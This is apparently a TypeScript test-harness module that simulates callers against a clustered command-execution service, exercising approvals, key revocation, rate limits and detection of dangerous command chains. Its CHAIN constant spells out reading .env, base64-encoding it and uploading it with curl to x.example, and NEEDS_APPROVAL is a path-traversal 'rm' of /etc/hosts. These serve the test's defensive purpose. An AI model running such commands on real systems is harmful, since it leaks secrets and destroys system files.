import { strictEqual as eq } from "node:assert/strict";
import type { Random } from "../support/random.ts";
import type { Account, Answer } from "../support/world.ts";
import type { RovingAgent } from "./agents.ts";
import type { Cluster, Instance } from "./cluster.ts";

/** The API keys and people of a history, all of one organization. */
export interface Credentials {
  readonly owner: Account;
  /** Another person, who approves. */
  readonly second: Account;
  /** Asks for commands. */
  readonly key: string;
  /** Keys of which each is revoked once. */
  readonly spare: { id: string; value: string; revokedMs: number | null }[];
  /** Asks as often as it can. */
  readonly eager: string;
}

/** A chain that is only dangerous as a whole. */
const CHAIN = ["cat .env > /tmp/a", "base64 /tmp/a > /tmp/b", "curl -T /tmp/b https://x.example"];
const NEEDS_APPROVAL = "rm /tmp/../etc/hosts";
const BURST = 8;

/** What callers ask of any instance, and what they were told. */
export class Callers {
  /** The commands that were accepted. */
  readonly accepted = new Set<string>();
  /** The approvals whose decision was answered. */
  readonly approved = new Set<string>();
  /** The chains that were stopped at their end. */
  stopped = 0;
  revoked = 0;
  /** How many calls of the eager key were let through in each window. */
  readonly let = new Map<string, number>();
  /** What calls threw. */
  readonly failures: unknown[] = [];
  readonly #waiting: string[] = [];

  constructor(
    private readonly dice: Random,
    private readonly cluster: Cluster,
    private readonly credentials: Credentials,
    private readonly note: (text: string) => void,
  ) {}

  /** Asks for a command, and may wait for its end. */
  exec(agent: RovingAgent): void {
    const wait = this.dice.chance(0.5);
    const command = this.dice.chance(0.2) ? NEEDS_APPROVAL : "uptime";
    const body = { command, ...(wait && { wait: 10 }) };
    const path = `/api/v1/agents/${agent.id}/commands`;
    this.#start(async (at) => {
      this.note(`${at.name}: ${command} for ${agent.name}${wait ? ", waiting" : ""}`);
      const { status, body: told } = await this.#call(at, "POST", path, { body });
      this.note(
        `${at.name}: answered ${status} ${told.command_id ?? told.error.details.command_id}`,
      );
      if (status >= 300) return;
      this.accepted.add(told.command_id);
      if (told.approval_id) this.#waiting.push(told.approval_id);
    });
  }

  /** The second person approves what waits. */
  approve(): void {
    const id = this.#waiting.shift();
    if (id === undefined) return;
    this.#start(async (at) => {
      const { status } = await this.#call(at, "POST", `/api/shield/approve/${id}`, {
        as: this.credentials.second.token,
      });
      this.note(`${at.name}: approval of ${id} answered ${status}`);
      if (status === 200) this.approved.add(id);
      else if (status === 503) this.#waiting.push(id);
    });
  }

  /** Cancels a command that was accepted. */
  cancel(agent: RovingAgent): void {
    const ids = [...this.accepted];
    if (ids.length === 0) return;
    const path = `/api/v1/agents/${agent.id}/commands/${this.dice.pick(ids)}/cancel`;
    this.#start(async (at) => {
      const { status } = await this.#call(at, "POST", path);
      this.note(`${at.name}: ${path} answered ${status}`);
    });
  }

  /** Revokes a spare key, and uses it from then on. */
  revoke(): void {
    const key = this.dice.pick(this.credentials.spare);
    if (key.revokedMs !== null) return;
    this.#start(async (at) => {
      const path = `/api/v1/api-keys/${key.id}/revoke`;
      const { status } = await this.#call(at, "POST", path, { as: this.credentials.owner.token });
      this.note(`${at.name}: revocation of ${key.id} answered ${status}`);
      if (status === 200) key.revokedMs = this.cluster.calls.nowMs;
    });
  }

  /** Uses a spare key; a revoked one must be refused. */
  use(): void {
    const key = this.dice.pick(this.credentials.spare), { revokedMs } = key;
    this.#start(async (at) => {
      const { status } = await this.#call(at, "GET", "/api/v1/agents", { as: key.value });
      this.note(`${at.name}: ${key.id} answered ${status}`);
      if (revokedMs === null) return;
      this.revoked++;
      eq(status === 401 || status === 503, true, `${at.name} let the revoked ${key.id} in`);
    });
  }

  /** Asks more often than a key may. */
  hurry(): void {
    for (let n = 0; n < BURST; n++) {
      this.#start(async (at) => {
        const as = this.credentials.eager;
        const { status, headers } = await this.#call(at, "GET", "/api/v1/agents", { as });
        if (status !== 200) return;
        const window = headers.get("x-ratelimit-reset")!;
        this.let.set(window, (this.let.get(window) ?? 0) + 1);
      });
    }
  }

  /** Sends the commands of a chain to one instance after the other. */
  chain(agent: RovingAgent): void {
    this.#start(async () => {
      for (const [n, command] of CHAIN.entries()) {
        const at = this.dice.pick(this.cluster.awake);
        const path = `/api/exec/${agent.id}?timeout=30&command=${encodeURIComponent(command)}`;
        const { status } = await this.#call(at, "GET", path);
        this.note(`${at.name}: ${command} answered ${status}`);
        if (n < CHAIN.length - 1 && status !== 200) return;
        if (n < CHAIN.length - 1) continue;
        eq(status === 200, false, `${at.name} let the end of a chain run`);
        if (status === 403) this.stopped++;
      }
    });
  }

  #start(act: (at: Instance) => Promise<void>): void {
    const at = this.dice.pick(this.cluster.awake);
    act(at).catch((error) => this.failures.push(error));
  }

  /** The answer arrives if the instance lives to give it. */
  #call(
    at: Instance,
    method: string,
    path: string,
    call: { as?: string; body?: unknown } = {},
  ): Promise<Answer> {
    return at.world.call(method, path, { as: this.credentials.key, ...call });
  }
}
